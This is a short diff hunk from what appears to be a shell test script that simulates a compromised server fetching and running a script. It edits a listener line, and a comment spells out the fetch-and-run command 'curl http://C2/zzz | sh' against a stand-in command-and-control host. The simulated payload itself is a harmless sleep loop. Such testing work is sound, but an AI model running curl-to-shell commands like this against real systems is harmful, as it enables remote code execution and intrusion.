@@ -14,7 +14,7 @@ cat >patch.json <<'JSON'
 JSON
 attack_up patch.json
 
-start listen 3333 && pool=$PID
+start listen 3333
 # Through the hole in the server: a script is fetched and run, as `curl http://C2/zzz | sh` leaves it.
 sh_start 'printf "while :; do sleep 100; done\n" >/tmp/zzz
 	cat /tmp/zzz | (exec 3>&-; exec sh) & echo child $! >&3; exec 3>&-; wait' && fetched=$(said child)
